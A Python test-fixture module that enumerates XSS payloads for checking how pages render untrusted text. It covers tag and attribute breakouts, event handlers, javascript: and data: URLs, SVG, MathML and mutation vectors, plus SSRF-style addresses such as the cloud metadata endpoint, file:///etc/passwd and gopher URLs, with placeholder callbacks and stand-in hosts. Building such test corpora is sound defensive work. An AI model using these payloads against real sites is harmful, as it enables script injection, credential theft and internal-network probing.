"""Parts of hostile markup: what would run, and what would let it out of the place where a page shows a text.

`P` stands for the call that the browser tests listen for, `#` for the number of the string.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CLOSERS = (
    "", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</select>", "</option>", "</button>",
    "</a>", "</td></tr></table>", "</datalist>", "</main></body>", "-->", "--!>", "]]>", "'>", '">', "`>", "?>", "</svg>",
)  # fmt: skip
RUNNING = (
    "<script>P</script>",
    "<img pwned src=/__pwned/# onerror=P>",
    "<svg pwned onload=P>",
    "<details pwned open ontoggle=P>",
    '<iframe srcdoc="<script>parent.P</script>"></iframe>',
    "<a pwned href=javascript:P>go</a>",
)
ELEMENTS = (
    "<SCRIPT>P</SCRIPT>", "<script\n>P</script\n>", "<script/pwned>P</script>", "<script>P", "<<script>P//<</script>",
    "<scr<script>ipt>P</scr</script>ipt>", "<script src=//pwned.invalid/#></script>", "<script type=module>P</script>",
    "<script src=data:text/javascript,P></script>", "<script x='>'>P</script>", "<\u00a0script>P</script>",
    "<iframe src=javascript:parent.P></iframe>", "<iframe src=//pwned.invalid/#></iframe>",
    "<object data=javascript:P></object>", "<embed src=javascript:P>", "<base href=//pwned.invalid/#/>",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid/#'>",
    "<meta http-equiv=refresh content='0;url=javascript:P'>",
    "<link rel=stylesheet href=//pwned.invalid/#>", "<link rel=preload as=image href=/__pwned/#>",
    "<form id=pwned action=//pwned.invalid/#><input name=password></form>",
    "<button form=pwned formaction=javascript:P>go</button>", "<input type=image src=/__pwned/# onerror=P>",
    "<portal src=//pwned.invalid/#>", "<applet code=//pwned.invalid/#>", "<frameset onload=P><frame src=javascript:P>",
    "<bgsound src=/__pwned/#>", "<img srcset='/__pwned/# 1x'>", "<picture><source srcset=/__pwned/#><img></picture>",
    "<template shadowrootmode=open><script>P</script></template>", "<custom-pwned is=pwned onclick=P tabindex=0>",
    "<dialog open pwned onclose=P><form method=dialog><button autofocus>", "<plaintext>", "<xmp><script>P</script>",
    "<!--", "<!--><img pwned src=x onerror=P>", "<![CDATA[><img pwned src=x onerror=P>]]>",
    "<?xml version='1.0'?><img pwned src=x onerror=P>", "<!DOCTYPE pwned><img pwned src=x onerror=P>",
    "<a id=pwned name=body href=//pwned.invalid/#>#</a>", "<img name=getElementById id=pwned>",
    "<form id=pwned><input name=attributes><input name=parentNode>", "<input type=hidden name=csrf_token value=pwned>",
    "<li value=#><p><table><td>pwned", "</p></div></section></main>pwned", "<b pwned>#</b>", "<h1>pwned #</h1>",
)  # fmt: skip
QUOTES = ('"', "'", "`", "", '\\"', "&quot;", '">', "'>", " ")
BREAKOUTS = (
    "{q} pwned autofocus onfocus=P x={q}", "{q} pwned onmouseover=P style=position:fixed;inset:0 {q}",
    "{q}/pwned/onfocus=P/autofocus/tabindex=0/", "{q}\tpwned\tonpointerenter=P\t{q}", "{q}\npwned\nonfocusin=P\n{q}",
    "{q} formaction=javascript:P type=submit pwned {q}", "{q} href=javascript:P pwned {q}",
    "{q} accesskey=x onclick=P pwned {q}", "{q} src=/__pwned/# pwned {q}",
)  # fmt: skip
HANDLERS = (
    "<body pwned onload=P>", "<body pwned onpageshow=P>", "<input pwned autofocus onfocus=P>",
    "<select pwned autofocus onfocus=P>", "<textarea pwned autofocus onfocus=P>", "<video pwned src=x onerror=P>",
    "<video pwned><source onerror=P src=x></video>", "<audio pwned src=x onerror=P>",
    "<video pwned autoplay onloadstart=P src=/__pwned/#>", "<marquee pwned onstart=P>#</marquee>",
    "<div pwned onpointerenter=P style=position:fixed;inset:0>#</div>", "<div pwned contenteditable onfocus=P>#</div>",
    "<div pwned onanimationstart=P style=animation:spin>#</div>", "<style pwned onload=P></style>",
    "<link pwned rel=stylesheet href=/__pwned/# onerror=P>", "<object pwned data=/__pwned/# onerror=P></object>",
    "<iframe pwned onload=P></iframe>", "<a pwned onclick=P href=#>#</a>", "<button pwned onclick=P autofocus>#</button>",
    "<img pwned src=x\nonerror\n=\nP>", "<img pwned src=x oNeRrOr=P>", "<img pwned src=x onerror='P'>",
    "<img pwned src=x onerror=\"P\">", "<img pwned src=x onerror=&#95;_pwned(#)>", "<img/pwned/src=x/onerror=P>",
    "<img pwned src=x onerror\x0b=P>", "<meter pwned onclick=P>#</meter>", "<form pwned onformdata=P><button>#",
    "<dialog pwned open oncancel=P>", "<p pwned onbeforematch=P hidden=until-found>#</p>",
)  # fmt: skip
SCHEMES = (
    "javascript:P", "JaVaScRiPt:P", " javascript:P", "java\tscript:P", "java\nscript:P", "javascript\n:P",
    "javascript&colon;P", "&#106;avascript:P", "&#x6a&#x61vascript:P", "javascript://pwned.invalid/%0aP",
    "javascript:'<script>P</script>'", "javascript:void(P)", "\x01javascript:P", "\u200bjavascript:P", "vbscript:P",
    "livescript:P", "mocha:P", "data:text/html,<script>opener.P</script>", "data:text/html;charset=utf-8,%3Cscript%3E%20P",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZCgwKTwvc2NyaXB0Pg==", "data:application/xhtml+xml,<html/>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='P'/>", "data:,#", "blob:P",
    "filesystem:http://pwned.invalid/#", "view-source:javascript:P", "feed:javascript:P", "jar:http://pwned.invalid!/#",
    "//pwned.invalid/#", "///pwned.invalid/#", "/\\pwned.invalid/#", "\\\\pwned.invalid\\#", "https:pwned.invalid/#",
    "http:///pwned.invalid/#", "http://localhost@pwned.invalid/#", "https://pwned.invalid\\@localhost/#",
    "http://127.0.0.1:22/#", "http://[::1]:5432/#", "http://0x7f.1/#", "http://2130706433/#", "http://0/#",
    "http://169.254.169.254/latest/#", "http://localhost.pwned.invalid/#", "http://\u24db\u24de\u24d2alhost/#",
    "file:///etc/passwd", "ftp://pwned.invalid/#", "gopher://127.0.0.1:25/_HELO#", "dict://127.0.0.1:11211/#",
    "http://pwned.invalid/#\r\nHost: x", "http://pwned.invalid:99999/#", "http://[::1/#", "http://%00/#", "https://",
    "mailto:x@pwned.invalid?bcc=y@pwned.invalid", "tel:#;phone-context=P", "about:blank#P", "chrome://settings/#",
    "javascript:/*--></title></style></textarea></script><svg onload='/*`/*\"/**/P//'>",
)  # fmt: skip
SVG = (
    "<svg pwned><script>P</script></svg>", "<svg pwned><script href=data:text/javascript,P /></svg>",
    "<svg pwned><a href=javascript:P><text x=20 y=20>go</text></a></svg>",
    "<svg pwned><a><animate attributeName=href values=javascript:P /><text x=20 y=20>go</text></a></svg>",
    "<svg pwned><animate onbegin=P attributeName=x dur=1s></svg>", "<svg pwned><set onbegin=P attributeName=x>",
    "<svg pwned><set attributeName=onmouseover to=P>", "<svg pwned><image href=/__pwned/# onerror=P /></svg>",
    "<svg pwned><use href='data:image/svg+xml,<svg id=x onload=P/>#x' /></svg>", "<svg><use href=//pwned.invalid/##x>",
    "<svg pwned><foreignObject><iframe onload=P></iframe></foreignObject></svg>",
    "<svg pwned><style>@import '//pwned.invalid/#';</style></svg>", "<svg pwned><desc><img src=x onerror=P></desc>",
    "<svg pwned><title><img src=x onerror=P></title></svg>", "<svg pwned onload\n=\nP>", "<svg/pwned/onload=P//",
    "<svg pwned><handler type=text/javascript>P</handler></svg>", "<svg pwned><discard onbegin=P>",
    "<svg xmlns:xlink=http://www.w3.org/1999/xlink pwned><a xlink:href=javascript:P><rect width=9 height=9 /></a></svg>",
    "<svg pwned><feImage href=/__pwned/# />", "<svg pwned><mpath href=javascript:P>", "<svg pwned><![CDATA[<img onerror=P>]]>",
    "<svg pwned filter='url(//pwned.invalid/#)'>", "<svg pwned><cursor href=/__pwned/#>",
)  # fmt: skip
MATHML = (
    "<math pwned href=javascript:P>go</math>", "<math pwned><mi xlink:href=javascript:P>go</mi></math>",
    "<math pwned><maction actiontype=statusline# href=javascript:P>go</maction></math>",
    "<math pwned><annotation-xml encoding=text/html><img src=x onerror=P></annotation-xml></math>",
    "<math pwned><annotation-xml encoding=application/xhtml+xml><iframe onload=P>", "<math pwned><mtext><img src=x onerror=P>",
    "<math pwned><mglyph><style><img src=x onerror=P>", "<math pwned><ms><script>P</script></ms></math>",
    "<math pwned><semantics><annotation src=//pwned.invalid/#>", "<math pwned><mo onclick=P>#</mo></math>",
    "<math pwned><malignmark><img src=x onerror=P>", "<math pwned style=position:fixed onfocus=P tabindex=0 autofocus>",
)  # fmt: skip
MUTATIONS = (
    "<noscript><p title=\"</noscript><img pwned src=x onerror=P>\">", "<svg></p><style><a id=\"</style><img src=x onerror=P>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=P&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img pwned src=x onerror=P>",
    "<listing>&lt;img pwned src=x onerror=P&gt;</listing>", "<xmp>&lt;/xmp&gt;&lt;img src=x onerror=P&gt;</xmp>",
    "<template><s><template><s></template><img pwned src=x onerror=P>", "<p><svg><desc></p><img pwned src=x onerror=P>",
    "<table><tr><td><svg><title><table><img pwned src=x onerror=P>", "<select><style></select><img pwned src=x onerror=P>",
    "<option><style></option></select><img pwned src=x onerror=P></style>", "<title><svg></title><img pwned src=x onerror=P>",
    "<textarea></textarea\t><img pwned src=x onerror=P>", "<textarea><!--</textarea><img pwned src=x onerror=P>-->",
    "<style><!--</style><img pwned src=x onerror=P>", "<script><!--<script></script><img pwned src=x onerror=P>--></script>",
    "<iframe><!--</iframe><img pwned src=x onerror=P>", "<noembed><img title=\"</noembed><img pwned src=x onerror=P>\">",
    "<a title=`><img pwned src=x onerror=P>`>", "<img title='`<b pwned' alt=\"` src=x onerror=P \">",
    "&lt;img pwned src=x onerror=P&gt;", "&amp;lt;img pwned src=x onerror=P&amp;gt;", "\uff1cimg pwned src=x onerror=P\uff1e",
    "+ADw-script+AD4-P+ADw-/script+AD4-", "\x1b$B<script>P</script>", "<p id=\"--><img pwned src=x onerror=P>\"><!--",
)  # fmt: skip
ISLANDS = (
    "</script><script>P</script>", "</ScRiPt ><script>P</script>", "</script/x><img pwned src=x onerror=P>",
    "<!--<script>", "<!--<script>P//-->", "\\u003c/script>\\u003cscript>P", "\\x3c/script>P", "\u2028P//", "\u2029P//",
    '"]}</script><img pwned src=x onerror=P>', "';P;'", '";P;"', "'-P-'", '"-P-"', "\\';P//", '\\";P//', "`;P;`", "${P}",
    "`${P}`", "*/P/*", "//\nP\n//", "]]>P//", "});P;({", '"}];P;[{"', "\\", "\\\\';P//", "</script", "<\\/script>P",
    "&#39;;P;&#39;", "&apos;);P;(&apos;",
)  # fmt: skip
STYLES = (
    "</style><img pwned src=x onerror=P>", "color:red;background:url(//pwned.invalid/#)", "@import '//pwned.invalid/#';",
    "@import url(/__pwned/#);", "x{}*{background:url(/__pwned/#)}", "}body{background:url('/__pwned/#')}", "width:expression(P)",
    "behavior:url(//pwned.invalid/#)", "-moz-binding:url(//pwned.invalid/#)", 'background:url("javascript:P")',
    "\\3c img src=x onerror=P\\3e", "/*</style>*/<img pwned src=x onerror=P>", "--x:url(/__pwned/#);background:var(--x)",
    "input[value^=a]{background:url(/__pwned/#)}", "@font-face{font-family:x;src:url(/__pwned/#);unicode-range:U+41}",
    "position:fixed;inset:0;z-index:9999", "content:url(/__pwned/#)", "@charset 'UTF-7';", "{}\\", "red;}/*",
    "<p style=background:url(/__pwned/#)>", "<p pwned style='animation:x' onanimationend=P>", "display:none !important",
    "@namespace url(//pwned.invalid/#);", "image-set('/__pwned/#' 1x)",
)  # fmt: skip


def broken_out() -> Iterator[str]:
    """Everything that runs, behind everything that ends the place it stands in."""
    yield from (closer + running for closer, running in product(CLOSERS, RUNNING))


def attributes() -> Iterator[str]:
    yield from (form.replace("{q}", quote) for quote, form in product(QUOTES, BREAKOUTS))


MARKUP = {
    "element": ELEMENTS, "closed": tuple(broken_out()), "attribute": tuple(attributes()), "handler": HANDLERS,
    "address": SCHEMES, "svg": SVG, "mathml": MATHML, "mutation": MUTATIONS, "island": ISLANDS, "style": STYLES,
}  # fmt: skip
